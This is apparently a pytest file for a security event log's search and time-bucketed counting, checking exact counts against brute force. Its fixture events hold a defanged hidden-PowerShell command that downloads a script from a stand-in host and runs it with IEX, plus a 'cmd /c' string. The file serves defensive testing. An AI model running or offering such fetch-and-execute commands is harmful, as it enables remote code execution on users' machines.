"""The chart of a free-text search: every bar equals a brute-force count of the events, whether
it is counted in one pass (a rare string, through the index) or step by step, newest first (a
word on many events), and every answer on the way is exact for the bars it calls counted."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from datetime import datetime, timedelta

import pytest

from app.events import Event
from app.storage import EventFilter, EventStore, queries, search_index
from tests.app.storage.conftest import T0, make_event

FIRST = T0.replace(tzinfo=None) - timedelta(minutes=30)  # bins from half an hour before T0
WIDTH = timedelta(hours=1)
BINS = 10  # 8 hours of events, in 9 bars (the first and the ninth half full), then an empty one


def _text(i: int) -> str:
    if i == 42:
        return "cmd /c marker-0042 & exit"
    if i % 97 == 5:
        return f"rare-marker {i} ÄRGER über Straße"
    if i % 50 == 7:
        return f"nul {i} ab -\x00-inside"  # (LIKE cannot see past a NUL in the text)
    return f"powershell -w hidden -c iwr hxxps://cdn{i}[.]test/a.ps1 | IEX"


NEEDLES = (
    "powershell",  # on most events: counted step by step
    "POWERSHELL",  # case folds
    "marker-0042",  # one event
    "rare-marker",  # a few, spread out
    "no-such-text",  # none
    "ärger",  # beyond ASCII: Python's casefold
    "strasse",  # ASCII needle, non-ASCII text: LIKE folds ASCII only, so "ß" is not "ss"
    "\x00-in",  # a NUL: FTS5's syntax cannot hold it, so a scan
    "a",  # one letter: everywhere
    "ab",  # two letters
    "run-dialog",  # the rules column
)


def _fill(store: EventStore, n: int = 480) -> list[Event]:
    events = []
    for i in range(n):
        event = make_event(
            time=T0 + timedelta(minutes=i),
            level=("suspicious", "malicious", "info")[i % 3],
            summary=f"event {i}",
            text=_text(i),
            rules=("clickfix.run-dialog",) if i % 4 == 0 else ("other.rule",),
        )
        event_id = store.append(event)
        assert event_id is not None
        events.append(event.with_id(event_id))
    return events


def _contains(event: Event, needle: str) -> bool:
    """What a search promises: a case-insensitive substring of summary, text, source, rules
    (ASCII case folding for an ASCII needle, Python's casefold beyond)."""
    fields = [event.summary, event.text or "", event.source or "", '["' + '","'.join(event.rules) + '"]']  # fmt: skip
    if needle.isascii():
        fold = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz")
        return any(needle.translate(fold) in f.translate(fold) for f in fields)
    return any(needle.casefold() in f.casefold() for f in fields)


def _brute(events: list[Event], f: EventFilter) -> list[Counter[str]]:
    """Matches by bar and level, counted one event at a time in Python."""
    bars: list[Counter[str]] = [Counter() for _ in range(BINS)]
    for e in events:
        if not _contains(e, f.search or "") or (f.levels is not None and e.level not in f.levels):
            continue
        i = int((e.time.replace(tzinfo=None) - FIRST) // WIDTH)
        if 0 <= i < BINS:
            bars[i][e.level] += 1
    return bars


def _bars(found: list[tuple[datetime, str, int]]) -> list[Counter[str]]:
    bars: list[Counter[str]] = [Counter() for _ in range(BINS)]
    for when, level, n in found:
        bars[int((when - FIRST) // WIDTH)][level] += n
    return bars


@pytest.fixture
def small_steps(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A word is common when on more than 4 of the 40 newest events; a step reads at most 25
    events (an hour's 60 take three); the index trails the log by up to 64 events."""
    monkeypatch.setattr(queries, "SEARCH_WINDOW", 40)
    monkeypatch.setattr(queries, "STEP_EVENTS", 25)
    monkeypatch.setattr(search_index, "INDEX_BATCH", 64)
    monkeypatch.setattr(search_index, "INDEX_LAG", 64)  # appends index a batch as soon as one waits
    yield


@pytest.mark.parametrize("needle", NEEDLES)
@pytest.mark.parametrize("levels", [None, frozenset({"malicious", "info"})])
def test_every_bar_equals_a_brute_force_count(
    store: EventStore, small_steps: None, needle: str, levels: frozenset[str] | None
) -> None:
    events = _fill(store)
    f = EventFilter(search=needle, levels=levels)
    expected = _brute(events, f)
    assert _bars(store.counts_in_bins(f, FIRST, WIDTH, BINS)) == expected
    answers = list(store.counts_in_bins_stepwise(f, FIRST, WIDTH, BINS))
    uncounted, last = answers[-1]
    assert uncounted == 0 and _bars(last) == expected
    total = sum(_contains(e, needle) and (levels is None or e.level in levels) for e in events)
    assert store.count(f) == total
    for cap in (3, 30, 10_000):  # "more than cap": cap + 1
        assert store.count(f, at_most=cap) == min(total, cap + 1), (needle, cap)
    for uncounted, found in answers[:-1]:  # on the way: the bars it calls counted are final
        assert 0 < uncounted <= BINS
        assert _bars(found)[uncounted:] == expected[uncounted:], needle


def test_a_common_word_is_counted_newest_first_in_short_steps(
    store: EventStore, small_steps: None
) -> None:
    events = _fill(store)
    f = EventFilter(search="powershell")
    answers = list(store.counts_in_bins_stepwise(f, FIRST, WIDTH, BINS))
    # parts of at most 25 events: the half-full bars in 2, the full ones in 3; the empty bar
    # is no step, and counts as counted from the start
    parts = [8, 8] + [b for b in range(7, 0, -1) for _ in range(3)] + [0, 0]
    assert [u for u, _ in answers] == [b + 1 for b in parts[1:]] + [0]
    first = _bars(answers[0][1])
    assert not any(first[:8])  # the newest part alone (of bar 8, split by time)
    assert sum(sum(c.values()) for c in _bars(answers[-1][1])) == sum(
        _contains(e, "powershell") for e in events
    )


def test_a_rare_string_is_answered_in_one_step(store: EventStore, small_steps: None) -> None:
    events = _fill(store)
    f = EventFilter(search="rare-marker")
    answers = list(store.counts_in_bins_stepwise(f, FIRST, WIDTH, BINS))
    assert [u for u, _ in answers] == [0]
    assert _bars(answers[0][1]) == _brute(events, f)
